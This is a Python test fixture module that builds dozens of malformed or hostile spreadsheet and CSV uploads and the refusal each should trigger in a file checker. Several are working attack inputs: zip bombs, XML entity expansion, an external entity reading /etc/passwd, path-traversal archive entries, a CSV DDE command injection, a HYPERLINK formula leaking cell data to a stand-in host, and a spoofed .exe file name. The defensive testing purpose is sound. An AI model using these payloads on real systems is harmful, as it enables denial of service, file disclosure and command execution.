"""Files nobody should send, each made by its builder: (the name the person gives, builder, what must be said).

What must be said is the code of a refusal, or `READ` when the file is harmless if read as it is, or a `Note`'s code.
"""

from __future__ import annotations

import io
import re
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import xlsxwriter

from tests.kit.imports import files
from xieshou.kit.imports.precheck import MB, OLE

Make = Callable[[Path], Path]
READ = "read"
XLSX, CSV = "名册.xlsx", "名册.csv"
END = b"</sheetData>"
FAR = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
ENTITIES = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]>'
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'


def written(data: bytes) -> Make:
    def make(path: Path) -> Path:
        path.write_bytes(data)
        return path

    return make


def row(old: bytes, new: bytes) -> Make:
    return lambda path: files.in_sheet(files.book(path), old, new)


def more(parts: dict[str, bytes]) -> Make:
    return lambda path: files.altered(files.book(path), lambda _, data: data, parts)


def part(ending: str, change: Callable[[bytes], bytes | None]) -> Make:
    return lambda path: files.altered(files.book(path), lambda n, d: change(d) if n.endswith(ending) else d)


def declared(data: bytes, head: bytes) -> bytes:
    """A part with another XML declaration before its root."""
    return head + data.split(b"?>", 1)[1]


def cell(inner: bytes, kind: bytes = b"") -> bytes:
    return b'<row r="9"><c r="A9"' + kind + b">" + inner + b"</c></row>" + END


def truncated(path: Path) -> Path:
    whole = files.book(path).read_bytes()
    path.write_bytes(whole[: len(whole) * 2 // 3])
    return path


def moved(name: str, make: Make = files.book) -> Make:
    """A good file of another kind under a wrong name."""
    return lambda path: make(path.with_name(name)).rename(path)


def zipped(*parts: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in parts:
            archive.writestr(name, data)
    return out.getvalue()


def twice(path: Path) -> Path:
    """Two parts of one name: what one reader sees the other does not."""
    files.book(path)
    with zipfile.ZipFile(path, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        archive.writestr("xl/workbook.xml", b"<workbook/>")
    return path


def flagged(path: Path) -> Path:
    """The bit that says "encrypted" set in every entry."""
    data = bytearray(files.book(path).read_bytes())
    for magic, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(magic)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(magic, at + 4)
    path.write_bytes(bytes(data))
    return path


def method_unknown(path: Path) -> Path:
    data = bytearray(files.book(path).read_bytes())
    for magic, place in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        at = data.find(magic)
        while at >= 0:
            struct.pack_into("<H", data, at + place, 99)
            at = data.find(magic, at + 4)
    path.write_bytes(bytes(data))
    return path


def blank_rows(count: int) -> Make:
    """Rows with nothing but a style, as a table formatted to its end has."""

    def make(path: Path) -> Path:
        rows = b"".join(b'<row r="%d" s="1"><c r="A%d" s="0"/></row>' % (n, n) for n in range(3, count))
        return files.in_sheet(files.book(path), END, rows + END)

    return make


def many_sheets(path: Path) -> Path:
    with xlsxwriter.Workbook(path) as book:
        for number in range(300):
            book.add_worksheet(f"第{number}页").write_row(0, 0, files.HEADINGS)
        book.get_worksheet_by_name("第0页").write_row(1, 0, files.ROW)
    return path


def hidden_only(path: Path) -> Path:
    return part("workbook.xml", lambda d: d.replace(b"<sheet name", b'<sheet state="hidden" name'))(path)


def formulas(value: str) -> Make:
    def make(path: Path) -> Path:
        with xlsxwriter.Workbook(path) as book:
            sheet = book.add_worksheet("a")
            sheet.write_row(0, 0, files.HEADINGS)
            sheet.write_row(1, 0, files.ROW)
            sheet.write_formula(1, 5, '=HYPERLINK("http://192.0.2.1/"&A2)', None, "3")
        return path if value else files.altered(path, lambda n, d: re.sub(rb"</f><v>3</v>", b"</f>", d))

    return make


def unplaced(path: Path) -> Path:
    return files.altered(formulas("")(path), lambda n, d: re.sub(rb'<c r="[A-Z]+[0-9]+"', b"<c", d))


LINK = b'<externalLink xmlns="x"><externalBook r:id="rId1"/></externalLink>'
TEXT = "\r\n".join([",".join(files.HEADINGS), ",".join(files.ROW)])
MIXED = "\r\n".join([",".join(files.HEADINGS), *[",".join(files.ROW)] * 5]).encode("gbk") + (
    "\r\n" + ",".join(["买买提明", *files.ROW[1:]]) + "\r\n"
).encode()


HOSTILE: dict[str, tuple[str, Make, str | tuple[str, ...]]] = {
    # --- swollen
    "zip bomb": (XLSX, files.bomb, "bomb"),
    "bomb with a lying directory": (XLSX, files.lying_bomb, "damaged"),
    "two thousand parts and more": (XLSX, more({f"xl/media/{n}.txt": b"1" for n in range(2100)}), "bomb"),
    "ten million blank rows, as text": (CSV, written(TEXT.encode() + b"\r\n" + b",,\n" * 10_000_000), "far_row"),
    "ten million blank rows, in a sheet": (XLSX, row(END, b'<row r="9"/>' * 4_000_000 + END), "bomb"),
    "a million rows of nothing but style": (XLSX, blank_rows(400_000), READ),
    "one text of thirty megabytes": (XLSX, row(END, cell(b"<is><t>" + b"x" * (30 * MB) + b"</t></is>", b' t="inlineStr"')),
                                     "long_cell"),
    "a text longer than a cell can hold": (CSV, written(TEXT.encode() + b"\n" + b"x" * 40_000), "long_cell"),
    "shared texts without number": (
        XLSX,
        more({"xl/sharedStrings.xml": b"<sst>" + b"".join(b"<si><t>%d</t></si>" % n for n in range(900_000)) + b"</sst>"}),
        READ,
    ),
    "one long text named twenty thousand times": (
        XLSX,
        lambda p: files.altered(
            files.book(p),
            lambda n, d: d.replace(
                END, b"".join(b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (n, n) for n in range(3, 20_003)) + END
            ) if n.endswith("sheet1.xml") else d,
            {"xl/sharedStrings.xml": b"<sst><si><t>" + b"x" * 32_000 + b"</t></si></sst>"},
        ),
        "memory",
    ),
    "styles of twenty megabytes": (
        XLSX, part("styles.xml", lambda d: d.replace(b"</styleSheet>", b"<x>" + b"0123456789" * (2 * MB) + b"</x></styleSheet>")),
        "styles",
    ),
    "a million columns": (CSV, written(TEXT.encode() + b"\r\n" + b"," * 1_000_000), "wide"),
    "four hundred columns": (XLSX, lambda p: files.book(p, ["x"] * 400, headings=[f"列{n}" for n in range(400)]), "wide"),
    "three hundred sheets": (XLSX, many_sheets, "other_sheets"),
    "depth without end": (XLSX, row(END, b"<x>" * 200_000 + END), (READ, "damaged", "memory")),
    # --- far away
    "cell XFD1048576": (XLSX, row(END, FAR), "far_cell"),
    "cell XFD1048576 in a sheet of another name": (
        XLSX, lambda p: files.renamed(files.in_sheet(files.book(p), END, FAR), "sheet1.xml", "sheet1.dat"), "far_cell"),
    "cell XFD1048576 in single quotes": (XLSX, row(END, FAR.replace(b'"', b"'")), "far_cell"),
    "row beyond the last": (XLSX, row(END, b'<row r="9999999"><c r="A9999999"><v>1</v></c></row>' + END), "far_row"),
    "wide and long": (XLSX, files.many_far_cells, ("memory", "wide")),
    "row nought": (XLSX, row(END, b'<row r="0"><c r="A0"><v>1</v></c></row>' + END), ("damaged", READ)),
    "a place that is none": (XLSX, row(END, b'<row r="9"><c r="1A"><v>1</v></c></row>' + END), ("damaged", READ)),
    "a shared text that does not exist": (XLSX, row(END, cell(b"<v>99999999</v>", b' t="s"')), ("damaged", "failed", READ)),
    "a day after the end of days": (XLSX, row(END, cell(b"<v>999999999999</v>")), READ),
    "numbers that are none": (XLSX, row(END, cell(b"<v>1e999</v>")), (READ, "damaged")),
    "a kind of cell nobody knows": (XLSX, row(END, cell(b"<v>1</v>", b' t="zz"')), ("damaged", READ)),
    # --- entities
    "entity expansion": (
        XLSX, part("sheet1.xml", lambda d: declared(d, ENTITIES)), "entities"),
    "entity from outside": (XLSX, part("workbook.xml", lambda d: declared(d, OUTSIDE)), "entities"),
    "entities in the styles": (XLSX, part("styles.xml", lambda d: declared(d, ENTITIES)), "entities"),
    "entities in sixteen bits": (
        XLSX,
        part("sheet1.xml", lambda d: ("\ufeff" + declared(d, ENTITIES).decode()).encode("utf-16-le")),
        "entities",
    ),
    # --- wrong names
    "csv named xlsx": (XLSX, files.text, "extension"),
    "xlsx named csv": (CSV, moved("好.xlsx"), "extension"),
    "xlsx named xls": ("名册.xls", moved("好.xlsx"), "extension"),
    "web page named xls": ("名册.xls", written(b"<html><table><tr><td>1</td></tr></table></html>"), "extension"),
    "table of a web page named xls": ("名册.xls", written(b"\xef\xbb\xbf<table><tr><td>1</td></tr></table>"), "extension"),
    "picture named csv": (CSV, written(b"\x89PNG\r\n\x1a\n" + bytes(300)), "extension"),
    "pdf named xlsx": (XLSX, written(b"%PDF-1.7\n" + bytes(300)), "extension"),
    "program named xlsx": (XLSX, written(b"MZ\x90" + bytes(300)), "extension"),
    "web page that is also a zip": (
        XLSX, lambda p: written(b"<html><!--" + files.book(p).read_bytes())(p), "extension"),
    "document": ("说明.docx", written(b"PK\x03\x04" + bytes(100)), "form"),
    "binary workbook": ("名册.xlsb", written(zipped(("xl/workbook.bin", b"1"))), "form"),
    "binary workbook named xlsx": (XLSX, written(zipped(("xl/workbook.bin", b"1"))), "form"),
    "open document": ("名册.ods", written(zipped(("content.xml", b"<x/>"))), "form"),
    # --- archives and paths
    "zip without a workbook": (XLSX, lambda p: files.altered(files.book(p), lambda n, d: None, {"a.txt": b"1"}), "form"),
    "zip around a workbook": ("名册.zip", lambda p: written(zipped(("a.xlsx", files.book(p).read_bytes())))(p), "archive"),
    "zip within a workbook": (XLSX, more({"xl/media/1.zip": zipped(("0", b"0" * (5 * MB)))}), READ),
    "rar named xlsx": (XLSX, written(b"Rar!\x1a\x07\x00" + bytes(300)), "archive"),
    "gzip named csv": (CSV, written(b"\x1f\x8b\x08" + bytes(300)), "archive"),
    "a part above the folder": (XLSX, more({"../../etc/cron.d/x": b"1"}), "paths"),
    "a part with a whole path": (XLSX, more({"/etc/passwd": b"1"}), "paths"),
    "a part above the folder, in the other slash": (XLSX, more({"xl\\..\\..\\x.exe": b"1"}), "paths"),
    "two parts of one name": (XLSX, twice, "damaged"),
    "name with folders": ("../../etc/名册.xlsx", files.book, READ),
    "name that turns the line around": ("名册\u202exslx.exe\u202c.xlsx", files.book, READ),
    # --- closed, torn, dangerous
    "password": (XLSX, written(OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600)), "password"),
    "password of the archive": (XLSX, flagged, "password"),
    "packed in an unknown way": (XLSX, method_unknown, "damaged"),
    "old workbook that holds nothing": ("名册.xls", written(OLE + bytes(2000)), "form"),
    "old workbook, torn": ("名册.xls", written(OLE + bytes(400) + "Workbook".encode("utf-16-le") + bytes(90)), "damaged"),
    "old workbook with macros": ("名册.xls", written(OLE + "_VBA_PROJECT".encode("utf-16-le") + bytes(90)), "macros"),
    "macros": (XLSX, more({"xl/vbaProject.bin": b"\0" * 64}), "macros"),
    "macro sheet": (XLSX, more({"xl/macrosheets/sheet1.xml": b"<x/>"}), "macros"),
    "macro extension": ("名册.xlsm", files.book, "macros"),
    "controls": (XLSX, more({"xl/activeX/activeX1.bin": b"\0"}), "macros"),
    "truncated": (XLSX, truncated, "damaged"),
    "broken part": (XLSX, part("sheet1.xml", lambda d: d[:200]), "damaged"),
    "workbook without its list of sheets": (XLSX, part("workbook.xml", lambda d: b"\0\1\2"), ("damaged", "empty")),
    "sheet that is not there": (XLSX, part("sheet1.xml", lambda d: None), "damaged"),
    "only hidden sheets": (XLSX, hidden_only, "empty"),
    "formulas with their values": (XLSX, formulas("3"), "formulas"),
    "formulas nobody worked out": (XLSX, formulas(""), "uncounted_at"),
    "formulas nobody worked out in cells without a place": (XLSX, unplaced, "uncounted"),
    "formulas in a text": (CSV, written(TEXT.encode() + b"\r\n=cmd|' /C calc'!A0,,"), READ),
    "links to other files": (XLSX, more({"xl/externalLinks/externalLink1.xml": LINK}), "links"),
    "a connection to a database": (XLSX, more({"xl/connections.xml": b"<connections/>"}), "links"),
    # --- texts
    "bytes named csv": (CSV, written(bytes(range(256)) * 8), "not_text"),
    "noughts among the letters": (CSV, written(TEXT.encode().replace(b",", b",\0", 3)), "not_text"),
    "sixteen bits without a mark": (CSV, written(TEXT.encode("utf-16-le")), "not_text"),
    "sixteen bits, torn": (CSV, written(b"\xff\xfe" + TEXT.encode("utf-16-le") + b"\x00\xd8"), "encoding"),
    "no text encoding": (CSV, written(b"\xff\x80\x80,\xff\xff\r\n" * 20), "encoding"),
    "two encodings in one file": (CSV, written(MIXED), "two_encodings"),
    "a quotation mark never closed": (CSV, written(TEXT.encode() + b'\r\n"' + b"a,b\r\n" * 30_000), "quote"),
    "nothing": (XLSX, written(b""), "empty"),
    "only blanks": (CSV, written(b",,,\r\n,,,\r\n"), "empty"),
    "bells and backspaces": (CSV, written(TEXT.encode() + b"\r\n\x07\x08\x1b[31m,,"), READ),
}
